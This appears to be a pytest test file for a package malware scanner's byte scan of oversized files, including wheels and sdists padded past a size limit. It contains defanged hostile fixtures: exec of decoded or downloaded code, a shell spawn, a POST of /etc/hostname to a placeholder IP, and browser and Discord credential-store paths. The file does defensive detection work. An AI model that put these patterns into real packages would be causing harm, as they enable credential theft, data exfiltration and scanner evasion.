"""The byte scan for files too large to parse: tokens across chunk borders, line numbers,
bounded memory, and padded archives (built here, payload defanged) end to end."""

from __future__ import annotations

import base64
import gc
import random
import tracemalloc

import pytest

from bot.analysis.artifact import analyze_artifact
from bot.analysis.python_code import analyze_python
from bot.analysis.token_scan import TokenScanner, scan_chunks
from bot.model import AlertType
from tests.analysis.builders import build_sdist, build_wheel

# Defanged: a documentation IP, a payload that decodes to `print(1)`.
PAYLOAD = (
    "import base64, subprocess, requests\n"
    "exec(base64.b64decode('cHJpbnQoMSk='))\n"
    "subprocess.Popen(['sh', '-c', 'true'])\n"
    "requests.post('http://203.0.113.9:8080/c', data=open('/etc/hostname').read())\n"
)
PAD_LINE = "#" + " " * 98 + "\n"  # 100 bytes


def chunked(data: bytes, size: int) -> list[bytes]:
    return [data[i : i + size] for i in range(0, len(data), size)]


def summary(findings: object) -> list[tuple[str, str, int | None]]:
    return [(f.type.value, f.api, f.line) for f in findings]  # type: ignore[attr-defined]


EXPECTED_AT_LINE_1 = [
    ("obfuscated-exec", "token:exec(decoded)", 2),
    ("shell", "token:process", 3),
    ("network", "token:network", 4),
    ("suspicious-url", "token:url:raw-ip", 4),
]


@pytest.mark.parametrize("size", [1, 7, 64, 1000, 1 << 20])
def test_tokens_and_lines_whatever_the_chunk_size(size: int) -> None:
    data = PAYLOAD.encode()
    assert summary(scan_chunks("x.py", chunked(data, size))) == EXPECTED_AT_LINE_1


def test_a_token_is_reported_once_when_it_sits_in_the_overlap() -> None:
    data = (" " * 5000 + "\n" + PAYLOAD + " " * 3000).encode()
    for size in (1023, 1024, 1025, 4096, 5001, 5040):
        assert [f.line for f in scan_chunks("x.py", chunked(data, size))] == [3, 4, 5, 5], size


def test_finding_fields_and_evidence_of_a_huge_line() -> None:
    data = ("x = 1\n" + "A" * 200_000 + " ; exec(zlib.decompress(blob)) ; " + "B" * 200_000)
    (finding,) = scan_chunks("pkg/big.py", chunked(data.encode(), 65536), artifact="a.whl")
    assert (finding.type, finding.file, finding.line, finding.artifact) == (
        AlertType.OBFUSCATED_EXEC, "pkg/big.py", 2, "a.whl"
    )
    assert finding.normalized == "exec(zlib.decompress"
    assert "exec(zlib.decompress(blob))" in finding.evidence
    assert len(finding.evidence) <= 160 + len(finding.normalized) + 10  # the match, centred
    assert finding.reason == (
        "The file runs decoded, decompressed or decrypted data with exec/eval/compile; found "
        "by a byte scan, because the file is too large for capdiff to parse."
    )


def test_names_inside_other_words_and_plain_code_are_not_tokens() -> None:
    data = b"def myexec(x):\n    return x.decode()\nosx.system = 1\nprint('exec decode')\n"
    assert scan_chunks("x.py", [data]) == ()


def test_places_per_token_are_capped() -> None:
    data = b"os.system('true')\n" * 1000
    found = scan_chunks("x.py", chunked(data, 4096))
    assert [f.line for f in found] == [1, 2, 3, 4, 5]


def test_other_threat_tokens() -> None:
    data = (
        b"URL = 'https://discord.com/api/webhooks/1/x'\n"
        b"from pytransform import pyarmor_runtime\n"
        b"code = marshal.loads(blob)\n"
        b"exec(urlopen('https://example.invalid/p').read())\n"
    )
    assert summary(scan_chunks("x.py", [data])) == [
        ("suspicious-url", "token:url:webhook", 1),
        ("obfuscated-code", "token:obfuscator:pyarmor", 2),
        ("dynamic-code", "token:marshal.loads", 3),
        ("download-exec", "token:exec(download)", 4),
        ("network", "token:network", 4),
    ]


def test_decoder_imports_credential_stores_and_hidden_windows() -> None:
    data = (
        b"_ = lambda s: __import__('zlib').decompress(s[::-1])\n"
        b"p = os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb'\n"
        b"db = home / 'Google/Chrome/User Data/Default/Login Data'\n"
        b"subprocess.Popen(['x.exe'], creationflags=subprocess.CREATE_NO_WINDOW)\n"
    )
    assert summary(scan_chunks("x.py", [data])) == [
        ("obfuscated-code", "token:__import__(decoder)", 1),
        ("credential-theft", "token:credential-store", 2),
        ("credential-theft", "token:credential-store", 3),
        ("shell", "token:process", 4),
        ("shell", "token:hidden-window", 4),
    ]


def test_memory_is_one_chunk_plus_the_overlap() -> None:
    scanner = TokenScanner("x.py")
    chunk = (PAD_LINE * 2621).encode()  # 256 KiB-ish
    for _ in range(40):
        scanner.feed(chunk)
        assert len(scanner._buffer) <= 1024  # the bound is the point
    assert scanner.findings() == ()


def padded_module(megabytes: int) -> bytes:
    """`megabytes` MB of comment padding, then the payload: past the 20 MiB file limit."""
    lines = megabytes * 1_000_000 // len(PAD_LINE)
    return (PAD_LINE * lines + PAYLOAD).encode()


def test_a_padded_wheel_gets_its_payload_reported_with_bounded_memory() -> None:
    module = padded_module(25)
    payload_line = module.count(b"\n", 0, module.index(b"exec(")) + 1
    wheel = build_wheel("padded", "1.0", {"padded/__init__.py": module})
    del module
    gc.collect()
    assert len(wheel) < 1_000_000  # padding compresses: a small download hides 25 MB

    tracemalloc.start()
    result = analyze_artifact(wheel, "padded-1.0-py3-none-any.whl", python_analyzer=analyze_python)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()

    assert peak < 8_000_000, peak
    assert result.incomplete_reasons == (
        "padded/__init__.py not analyzed: larger than the 20971520 byte file limit "
        "(scanned for threat tokens only)",
    )
    assert [(f.type.value, f.file, f.line) for f in result.findings] == [
        ("obfuscated-exec", "padded/__init__.py", payload_line),
        ("shell", "padded/__init__.py", payload_line + 1),
        ("network", "padded/__init__.py", payload_line + 2),
        ("suspicious-url", "padded/__init__.py", payload_line + 2),
    ]


def test_a_padded_sdist_setup_py_keeps_its_path_and_role() -> None:
    # Noise that does not compress: a tar of whitespace padding is cut earlier, by the
    # archive's compression-ratio limit (next test).
    noise = base64.b64encode(random.Random(8).randbytes(16_000_000))
    lines = b"\n".join(b"# " + noise[i : i + 76] for i in range(0, len(noise), 76))
    sdist = build_sdist("padded", "1.0", {"setup.py": lines + b"\n" + PAYLOAD.encode(),
                                          "padded/__init__.py": ""})
    result = analyze_artifact(sdist, "padded-1.0.tar.gz", python_analyzer=analyze_python)
    assert result.incomplete_reasons == (
        "setup.py not analyzed: larger than the 20971520 byte file limit "
        "(scanned for threat tokens only)",
    )
    assert {f.file for f in result.findings} == {"setup.py"}
    assert AlertType.OBFUSCATED_EXEC in {f.type for f in result.findings}


def test_a_whitespace_padded_sdist_is_scanned_past_the_ratio_limit() -> None:
    module = padded_module(21)
    line = module.count(b"\n", 0, module.index(b"exec(")) + 1
    sdist = build_sdist("padded", "1.0", {"setup.py": module})
    del module
    tracemalloc.start()
    result = analyze_artifact(sdist, "padded-1.0.tar.gz", python_analyzer=analyze_python)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 8_000_000, peak
    archive_cut, unread = result.incomplete_reasons
    assert archive_cut.startswith("decompressed archive exceeds ")
    assert archive_cut.endswith("(compression ratio or total size limit) at "
                                "'padded-1.0/setup.py'")
    assert unread == (
        "setup.py not analyzed: past the archive's decompression limit "
        "(scanned for threat tokens only)"
    )
    assert ("obfuscated-exec", "setup.py", line) in [
        (f.type.value, f.file, f.line) for f in result.findings
    ]


@pytest.mark.parametrize(
    "spelling",
    [b"Local Storage/leveldb", b"Local Storage\\leveldb", b"Local Storage\\\\leveldb"],
)
def test_a_session_store_path_however_it_is_spelled(spelling: bytes) -> None:
    found = scan_chunks("x.py", [b"p = r'" + spelling + b"'\n"])
    assert summary(found) == [("credential-theft", "token:credential-store", 1)]
